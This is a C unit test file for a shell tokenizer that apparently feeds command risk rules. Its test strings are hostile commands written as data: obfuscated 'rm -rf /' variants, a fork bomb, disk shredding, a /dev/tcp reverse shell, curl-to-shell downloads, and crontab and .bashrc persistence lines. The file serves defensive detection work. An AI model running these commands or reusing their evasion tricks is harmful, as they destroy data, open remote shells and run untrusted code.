/*
 * Unit tests for the shell tokenizer (common/shtok.c): what the risk rules
 * see of a command line, however it is quoted, wrapped or nested.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "shtok.h"

static struct tdm_sh_parts parse(const char *line, size_t n)
{
	struct tdm_sh_parts p;

	assert_int_equal(tdm_sh_parts((const uint8_t *)line, n, &p), 0);
	assert_true(p.n >= 1);
	return p;
}

static bool has_part(const struct tdm_sh_parts *p, const char *want)
{
	size_t i;

	for (i = 0; i < p->n; i++)
		if (strcmp(p->v[i], want) == 0)
			return true;
	return false;
}

static void dump(const struct tdm_sh_parts *p)
{
	size_t i;

	for (i = 0; i < p->n; i++)
		fprintf(stderr, "  part %zu: [%s]\n", i, p->v[i]);
}

/* line gives the whole-line text `whole` and every part in `want`. */
static void parts_are(const char *line, const char *whole,
		      const char *const *want)
{
	struct tdm_sh_parts p = parse(line, strlen(line));
	size_t i;

	if (strcmp(p.v[0], whole) != 0) {
		fprintf(stderr, "line: %s\n", line);
		dump(&p);
	}
	assert_string_equal(p.v[0], whole);
	for (i = 0; want[i] != NULL; i++) {
		if (!has_part(&p, want[i])) {
			fprintf(stderr, "line: %s\nmissing: [%s]\n", line,
				want[i]);
			dump(&p);
		}
		assert_true(has_part(&p, want[i]));
	}
	tdm_sh_parts_free(&p);
}

static void test_quotes_and_backslashes_are_removed(void **state)
{
	(void)state;
	parts_are("r''m -r\"f\" /", "rm -rf /", (const char *[]){ NULL });
	parts_are("\\rm -rf /", "rm -rf /", (const char *[]){ NULL });
	parts_are("e\"c\"h\\o 'a b'  \"c\\\"d\"", "echo 'a b' 'c\"d'",
		  (const char *[]){ NULL });
	parts_are("echo \"\\$HOME\" '$HOME'", "echo '$HOME' '$HOME'",
		  (const char *[]){ NULL });
	parts_are("rm \\\n-rf /", "rm -rf /", (const char *[]){ NULL });
}

static void test_ansi_c_strings_are_decoded(void **state)
{
	(void)state;
	parts_are("$'\\x72\\x6d' -rf /", "rm -rf /", (const char *[]){ NULL });
	parts_are("$'\\162\\155' $'\\u002d'rf /", "rm -rf /",
		  (const char *[]){ NULL });
	parts_are("echo $'a\\tb\\e[0m'", "echo 'a\tb\x1b[0m'",
		  (const char *[]){ NULL });
	/* bash ends the string at a NUL, so must the reading of it. */
	parts_are("r$'m\\0zzz' -rf /", "rm -rf /", (const char *[]){ NULL });
	parts_are("echo $'\\cA'", "echo \x01", (const char *[]){ NULL });
}

static void test_ifs_and_variables_set_in_the_line(void **state)
{
	(void)state;
	parts_are("rm${IFS}-rf${IFS}/", "rm -rf /", (const char *[]){ NULL });
	parts_are("rm$IFS-rf$IFS/", "rm -rf /", (const char *[]){ NULL });
	parts_are("a=rm; $a -rf /", "a=rm ; rm -rf /",
		  (const char *[]){ "a=rm", "rm -rf /", NULL });
	parts_are("c=\"rm -rf\"; $c /", "'c=rm -rf' ; rm -rf /",
		  (const char *[]){ "rm -rf /", NULL });
	parts_are("export P=/usr/bin; \"$P/rm\" x",
		  "export P=/usr/bin ; /usr/bin/rm x",
		  (const char *[]){ "/usr/bin/rm x", "rm x", NULL });
	/* Unknown variables stay as written. */
	parts_are("echo $HOME ${USER:-x} $1 $?", "echo $HOME ${USER:-x} $1 $?",
		  (const char *[]){ NULL });
}

static void test_lists_pipelines_and_operators(void **state)
{
	(void)state;
	parts_are("curl -fsSL https://x.sh | sudo bash",
		  "curl -fsSL https://x.sh | sudo bash",
		  (const char *[]){ "curl -fsSL https://x.sh", "sudo bash",
				    "bash", NULL });
	parts_are("true&&rm x||echo no;ls&", "true && rm x || echo no ; ls &",
		  (const char *[]){ "true", "rm x", "echo no", "ls", NULL });
	parts_are("a |& b", "a |& b", (const char *[]){ "a", "b", NULL });
	parts_are("ls\nrm -rf /", "ls ; rm -rf /",
		  (const char *[]){ "ls", "rm -rf /", NULL });
	parts_are("ls # ; rm -rf /", "ls", (const char *[]){ NULL });
}

static void test_substitutions_and_groups_are_read(void **state)
{
	(void)state;
	parts_are("echo `whoami` $(id -u)", "echo $(whoami) $(id -u)",
		  (const char *[]){ "whoami", "id -u", NULL });
	parts_are("$(echo cm0= | base64 -d)", "$(echo cm0= | base64 -d)",
		  (const char *[]){ "echo cm0=", "base64 -d", NULL });
	parts_are("echo \"$(echo `rm -rf /`)\"", "echo '$(echo $(rm -rf /))'",
		  (const char *[]){ "rm -rf /", "echo $(rm -rf /)", NULL });
	parts_are("(cd /; rm -rf x)", "( cd / ; rm -rf x )",
		  (const char *[]){ "cd /", "rm -rf x", NULL });
	parts_are("{ rm -rf x; }", "{ rm -rf x ; }",
		  (const char *[]){ "rm -rf x", NULL });
	parts_are("diff <(ls a) >(rm b)", "diff <(ls a) >(rm b)",
		  (const char *[]){ "ls a", "rm b", NULL });
	parts_are("echo $(( $(rm -rf /) + 1 ))", "echo $(( $(rm -rf /) + 1 ))",
		  (const char *[]){ "rm -rf /", NULL });
	parts_are("if true; then rm -rf /; fi", "if true ; then rm -rf / ; fi",
		  (const char *[]){ "true", "rm -rf /", NULL });
	parts_are("while :; do rm x; done &", "while : ; do rm x ; done &",
		  (const char *[]){ "rm x", NULL });
}

static void test_redirections_move_to_the_end(void **state)
{
	(void)state;
	parts_are(">/etc/x echo a 2>/dev/null", "echo a > /etc/x 2> /dev/null",
		  (const char *[]){ NULL });
	parts_are("echo x >>/etc/passwd", "echo x >> /etc/passwd",
		  (const char *[]){ NULL });
	parts_are("bash -i >& /dev/tcp/10.0.0.1/9 0>&1",
		  "bash -i >& /dev/tcp/10.0.0.1/9 0>& 1",
		  (const char *[]){ NULL });
	parts_are("cat &>/dev/null <in", "cat &> /dev/null < in",
		  (const char *[]){ NULL });
	parts_are(">/etc/passwd", "> /etc/passwd", (const char *[]){ NULL });
	parts_are("echo a2>b", "echo a2 > b", (const char *[]){ NULL });
}

static void test_wrappers_are_peeled_stage_by_stage(void **state)
{
	(void)state;
	parts_are("sudo -u root env FOO=1 nice -n 5 rm -rf /x",
		  "sudo -u root env FOO=1 nice -n 5 rm -rf /x",
		  (const char *[]){ "env FOO=1 nice -n 5 rm -rf /x",
				    "nice -n 5 rm -rf /x", "rm -rf /x", NULL });
	parts_are("A=1 B=2 rm x", "A=1 B=2 rm x",
		  (const char *[]){ "rm x", NULL });
	parts_are("command exec nohup setsid time -p rm x",
		  "command exec nohup setsid time -p rm x",
		  (const char *[]){ "rm x", NULL });
	parts_are("timeout -s KILL 5 stdbuf -oL ionice -c3 rm x",
		  "timeout -s KILL 5 stdbuf -oL ionice -c3 rm x",
		  (const char *[]){ "rm x", NULL });
	parts_are("doas -u root /bin/rm x", "doas -u root /bin/rm x",
		  (const char *[]){ "/bin/rm x", "rm x", NULL });
	parts_are("ls | xargs -n1 -I{} rm -f {}",
		  "ls | xargs -n1 -I{} rm -f {}",
		  (const char *[]){ "rm -f {}", NULL });
	parts_are("find / -name x -exec rm -rf {} \\; -print",
		  "find / -name x -exec rm -rf {} ';' -print",
		  (const char *[]){ "rm -rf {}", NULL });
	parts_are("chroot /mnt rm x", "chroot /mnt rm x",
		  (const char *[]){ "rm x", NULL });
}

static void test_strings_run_by_a_shell_are_read(void **state)
{
	(void)state;
	parts_are("bash -c \"rm -rf /; echo hi\"",
		  "bash -c 'rm -rf /; echo hi'",
		  (const char *[]){ "rm -rf /", "echo hi", "rm -rf / ; echo hi",
				    NULL });
	parts_are("sudo sh -lc 'rm x'", "sudo sh -lc 'rm x'",
		  (const char *[]){ "rm x", NULL });
	parts_are("eval 'rm' '-rf /'", "eval rm '-rf /'",
		  (const char *[]){ "rm -rf /", NULL });
	parts_are("su -c \"rm x\" root", "su -c 'rm x' root",
		  (const char *[]){ "rm x", NULL });
	parts_are("ssh -p 22 db01 'rm -rf /tmp/x'",
		  "ssh -p 22 db01 'rm -rf /tmp/x'",
		  (const char *[]){ "rm -rf /tmp/x", NULL });
	parts_are("watch -n 1 'kill -9 1'", "watch -n 1 'kill -9 1'",
		  (const char *[]){ "kill -9 1", NULL });
	parts_are("env -S 'rm -rf /'", "env -S 'rm -rf /'",
		  (const char *[]){ "rm -rf /", NULL });
	parts_are("cat <<EOF | sh\nrm -rf /\nEOF", "cat << EOF | sh ;",
		  (const char *[]){ "rm -rf /", NULL });
}

/* An option that wants an argument, given as the last word, takes nothing:
 * the wrapper wraps no command and nothing past the words is read. */
static void test_an_option_missing_its_argument_ends_the_command(void **state)
{
	static const char *const lines[] = {
		"watch -n",	    "watch watch -n",
		"sudo -u",	    "nice -n",
		"xargs -n",	    "timeout -s",
		"ssh -p",	    "time -o",
		"ionice -c",	    "exec -a",
		"strace -o",	    "doas -u",
		"sh -c 'watch -q'", NULL
	};
	size_t i;

	(void)state;
	for (i = 0; lines[i] != NULL; i++) {
		struct tdm_sh_parts p = parse(lines[i], strlen(lines[i]));

		assert_true(p.n >= 1);
		assert_false(p.open);
		tdm_sh_parts_free(&p);
	}
}

static void test_quoted_operators_stay_quoted_in_the_line(void **state)
{
	struct tdm_sh_parts p;

	(void)state;
	parts_are("echo \"curl x | sh\"", "echo 'curl x | sh'",
		  (const char *[]){ NULL });
	parts_are("echo \"it's\"", "echo 'it'\\''s'", (const char *[]){ NULL });
	p = parse("echo \"curl x | sh is bad\"", 26);
	assert_false(has_part(&p, "curl x"));
	assert_false(has_part(&p, "echo curl x | sh is bad"));
	tdm_sh_parts_free(&p);
	/* But what echo writes to a file, a pipe or a capture may run
	 * later: it is read as commands too. */
	parts_are("echo 'curl -s x | sh' >> ~/.bashrc",
		  "echo 'curl -s x | sh' >> ~/.bashrc",
		  (const char *[]){ "curl -s x | sh", "curl -s x", NULL });
	parts_are("(crontab -l; echo \"* * * * * rm -rf /\") | crontab -",
		  "( crontab -l ; echo '* * * * * rm -rf /' ) | crontab -",
		  (const char *[]){ "rm -rf /", NULL });
	parts_are("echo \"$(date) started\" >> log",
		  "echo '$(date) started' >> log",
		  (const char *[]){ "date", NULL });
	/* A nested list's own text is a part, for rules about pipelines. */
	parts_are("bash -c \"curl -s x | sh\"", "bash -c 'curl -s x | sh'",
		  (const char *[]){ "curl -s x | sh", NULL });
	parts_are("echo \"$(curl x | sh)\"", "echo '$(curl x | sh)'",
		  (const char *[]){ "curl x | sh", NULL });
}

static void test_constant_substitutions_are_folded(void **state)
{
	(void)state;
	parts_are("$(echo rm) -rf /", "rm -rf /",
		  (const char *[]){ "echo rm", NULL });
	parts_are("`echo -n r``printf m` -rf /", "rm -rf /",
		  (const char *[]){ NULL });
	parts_are("$(echo r m)x", "r mx", (const char *[]){ NULL });
	/* Anything else stays a substitution. */
	parts_are("$(echo -e '\\x72m') x", "$(echo -e '\\x72m') x",
		  (const char *[]){ NULL });
	parts_are("$(printf %s rm) x", "$(printf %s rm) x",
		  (const char *[]){ NULL });
	parts_are("$(cat f) x", "$(cat f) x",
		  (const char *[]){ "cat f", NULL });
}

static void test_function_definitions_are_parts(void **state)
{
	(void)state;
	parts_are("f() { rm -rf /; }; f", "f() { rm -rf / ; } ; f",
		  (const char *[]){ "f()", "rm -rf /", "f", NULL });
	parts_are(":(){ :|:& };:", ":() { : | : & } ; :",
		  (const char *[]){ ":()", NULL });
	parts_are("function g { shred /dev/sda; }",
		  "function g { shred /dev/sda ; }",
		  (const char *[]){ "function g", "shred /dev/sda", NULL });
}

static void test_open_quotes_are_reported_and_read_on(void **state)
{
	struct tdm_sh_parts p;

	(void)state;
	p = parse("echo 'abc", 9);
	assert_true(p.open);
	tdm_sh_parts_free(&p);
	p = parse("echo \"a; rm -rf /", 17);
	assert_true(p.open);
	/* What follows the open quote may be code in the next line's light. */
	assert_true(has_part(&p, "rm -rf /"));
	tdm_sh_parts_free(&p);
	p = parse("echo $(ls", 9);
	assert_true(p.open);
	tdm_sh_parts_free(&p);
	p = parse("cat <<EOF", 9);
	assert_true(p.open);
	tdm_sh_parts_free(&p);
	p = parse("ls \\", 4);
	assert_true(p.open);
	tdm_sh_parts_free(&p);
	p = parse("echo 'a' \"b\" $(c) `d`", 21);
	assert_false(p.open);
	tdm_sh_parts_free(&p);
}

/* bash reads on after a line that ends in |, |&, && or ||. */
static void
test_a_trailing_pipe_or_list_operator_leaves_the_line_open(void **state)
{
	static const char *const open[] = {
		"curl http://203.0.113.9/a |",
		"make && ",
		"false ||",
		"ls |&",
		"a | b |   ",
		"curl x | # then",
		"a &&\n\n",
	};
	static const char carried[] = "curl -s http://203.0.113.9/i.sh |\nsh";
	static const char *const done[] = {
		"curl http://203.0.113.9/a | sh",
		"sleep 9 &",
		"ls;",
		"echo '|'",
		"echo a\\|",
		"x || y",
		"sh -c 'ls |'",
		"echo `a |`",
		"eval 'x &&'",
	};
	struct tdm_sh_parts p;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(open) / sizeof(open[0]); i++) {
		p = parse(open[i], strlen(open[i]));
		if (!p.open)
			fail_msg("not open: %s", open[i]);
		tdm_sh_parts_free(&p);
	}
	for (i = 0; i < sizeof(done) / sizeof(done[0]); i++) {
		p = parse(done[i], strlen(done[i]));
		if (p.open)
			fail_msg("open: %s", done[i]);
		tdm_sh_parts_free(&p);
	}
	/* Carried on to the next line, the pipeline is read whole. */
	p = parse(carried, strlen(carried));
	assert_false(p.open);
	assert_true(has_part(&p, "sh"));
	assert_true(has_part(&p, "curl -s http://203.0.113.9/i.sh | sh"));
	tdm_sh_parts_free(&p);
}

static void test_limits_stop_the_reading_and_say_so(void **state)
{
	char line[4096];
	struct tdm_sh_parts p;
	size_t i, n = 0;

	(void)state;
	for (i = 0; i < 40; i++)
		n += (size_t)snprintf(line + n, sizeof(line) - n, "$(");
	n += (size_t)snprintf(line + n, sizeof(line) - n, "rm -rf /");
	for (i = 0; i < 40; i++)
		line[n++] = ')';
	p = parse(line, n);
	assert_true(p.deep);
	tdm_sh_parts_free(&p);

	n = 0;
	for (i = 0; i < 1000 && n + 8 < sizeof(line); i++)
		n += (size_t)snprintf(line + n, sizeof(line) - n, "c%zu;", i);
	p = parse(line, n);
	assert_true(p.deep);
	assert_true(p.n <= TDM_SH_MAX_PARTS + 1);
	tdm_sh_parts_free(&p);

	/* Doubling a variable again and again stays bounded. */
	n = (size_t)snprintf(line, sizeof(line), "a=xxxxxxxxxxxxxxxx");
	for (i = 0; i < 30; i++)
		n += (size_t)snprintf(line + n, sizeof(line) - n, "; a=$a$a");
	p = parse(line, n);
	tdm_sh_parts_free(&p);

	/* echo "$(echo "$(…)")": each level is read as a substitution
	 * and as the text echo prints, so the parts grow threefold a
	 * level; they stay in proportion to the line. */
	{
		size_t total = 0;

		n = 0;
		for (i = 0; i < 11; i++)
			n += (size_t)sprintf(line + n, "echo d\"$(");
		line[n++] = 'x';
		for (i = 0; i < 11; i++)
			n += (size_t)sprintf(line + n, ")\"");
		p = parse(line, n);
		assert_true(p.deep);
		for (i = 0; i < p.n; i++)
			total += strlen(p.v[i]);
		assert_true(total <=
			    2 * (TDM_SH_MIN_BYTES + TDM_SH_GROWTH * n));
		tdm_sh_parts_free(&p);
	}

	/* Found by the fuzzer: evals inside substitutions inside evals,
	 * each using a variable; the reading stops at the limits instead
	 * of going on byte by byte (it took 0.7 s; now milliseconds, and
	 * `make fuzz` fails on any input slower than its -timeout). */
	{
		static const char slow[] =
			"\x65\x76\x61\x6c\x20\xe6\x22\x24\x28\x65\xe2\x41\x63\x9d\x97"
			"\x92\xe2\x41\x24\x65\x20\x26\x24\x28\x65\x76\x61\x6c\x20\xe6"
			"\x22\x28\x65\x76\x61\x6c\x20\x65\x76\x61\x6c\x20\x65\x3d\x63"
			"\x9d\x97\x92\x24\xe2\x41\x22\x24\x65\x60\x66\x69\x6e\x64\x20"
			"\x2f\x20\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
			"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
			"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x2d\x6e\x61\x6d\x65\x20"
			"\x66\x20\x7b\x7d\x20\x9f\x5c\x3b\xff\xff\xd4\xff\xff\xff\xff"
			"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"
			"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"
			"\xff\xff\xff\x97\x92\xe2\x41\x24\x65\x20\x29\x24\x28\x65\x76"
			"\x61\x6c\x20\xe6\x22\x28\x65\x76\x61\x6c\x22\x34\x28\x65\x76"
			"\x61\x6c\x20\x65\x3d\x63\x9d\x97\x92\xe2\x41\x22\x24\x65\x5e"
			"\x22\x24\x65\x63\x24\x65\x60\x2f\x2f\x2f\x2f\x69\x65\x2b\x09"
			"\x00\x20\x65\x76\x61\x6c\x20\x65\x3d\x63\x9d\x97\x92\x24\x22"
			"\x24\xe2\x65\x41\x60\x66\x69\x6e\x64\x20\x2f\x20\x2d\x6e\xff"
			"\xff\xfd\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"
			"\xff\xff\xff\xff\xff\xff\x00\x00\x00\x00\x00\x00\x00\x00\x00"
			"\x00\x00\x00\x00\x00\x00\x00\x00\xcc\x00\x00\xff\xff\xff\xff"
			"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"
			"\xff\x2d\x6f\x20\x2d\x65\x78\x65\x63\x00\x00\x61\x6b\x6e\x3b"
			"\xe2\x24\x28\x28\xe6\x01\x22\x04\x65\x9d\x97\x7c\x3b\x00\x00"
			"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
			"\x00\x00\x00\x22\x04\x65\x9d\x97\x5c\x3b";

		p = parse(slow, sizeof(slow) - 1);
		assert_true(p.deep);
		assert_true(p.open);
		assert_true(p.n > 1);
		tdm_sh_parts_free(&p);
	}
}

static void test_nul_bytes_and_empty_lines(void **state)
{
	struct tdm_sh_parts p;

	(void)state;
	p = parse("", 0);
	assert_int_equal(p.n, 1);
	assert_string_equal(p.v[0], "");
	tdm_sh_parts_free(&p);
	/* A NUL typed into the line does not end the reading of it. */
	p = parse("ls\0; rm -rf /", 13);
	assert_true(has_part(&p, "rm -rf /"));
	tdm_sh_parts_free(&p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_quotes_and_backslashes_are_removed),
		cmocka_unit_test(test_ansi_c_strings_are_decoded),
		cmocka_unit_test(test_ifs_and_variables_set_in_the_line),
		cmocka_unit_test(test_lists_pipelines_and_operators),
		cmocka_unit_test(test_substitutions_and_groups_are_read),
		cmocka_unit_test(test_redirections_move_to_the_end),
		cmocka_unit_test(test_wrappers_are_peeled_stage_by_stage),
		cmocka_unit_test(test_strings_run_by_a_shell_are_read),
		cmocka_unit_test(
			test_an_option_missing_its_argument_ends_the_command),
		cmocka_unit_test(test_quoted_operators_stay_quoted_in_the_line),
		cmocka_unit_test(test_constant_substitutions_are_folded),
		cmocka_unit_test(test_function_definitions_are_parts),
		cmocka_unit_test(test_open_quotes_are_reported_and_read_on),
		cmocka_unit_test(
			test_a_trailing_pipe_or_list_operator_leaves_the_line_open),
		cmocka_unit_test(test_limits_stop_the_reading_and_say_so),
		cmocka_unit_test(test_nul_bytes_and_empty_lines),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
